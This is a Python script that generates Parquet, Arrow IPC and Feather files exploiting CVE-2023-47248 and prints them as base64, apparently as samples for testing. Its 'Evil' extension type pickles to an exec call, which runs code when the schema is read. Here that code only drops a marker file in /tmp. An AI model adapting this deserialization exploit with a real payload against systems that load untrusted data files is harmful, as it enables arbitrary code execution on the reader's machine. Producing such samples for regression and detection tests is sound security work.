"""Prints files whose schema holds code to run, a line each: the name and the content in base64 (CVE-2023-47248)."""

import base64
import io

import pyarrow as pa
import pyarrow.feather
import pyarrow.ipc
import pyarrow.parquet


class Evil(pa.PyExtensionType):
    """A type whose pickle is a call: it leaves a file behind where it is read."""

    def __init__(self):
        super().__init__(pa.int64())

    def __reduce__(self):
        return exec, ("import os; open('/tmp/code-ran-in-%d' % os.getpid(), 'w')",)


def written(write):
    sink = io.BytesIO()
    write(sink)
    return sink.getvalue()


def with_writer(new_writer):
    def write(sink):
        with new_writer(sink, table.schema) as writer:
            writer.write_table(table)

    return write


table = pa.table({"c": pa.ExtensionArray.from_storage(Evil(), pa.array([1, 2, 3]))})
files = {
    "parquet": written(lambda sink: pa.parquet.write_table(table, sink)),
    "stream": written(with_writer(pa.ipc.new_stream)),
    "file": written(with_writer(pa.ipc.new_file)),
    "feather": written(lambda sink: pa.feather.write_feather(table, sink)),
}
for name, content in files.items():
    print(name, base64.b64encode(content).decode())
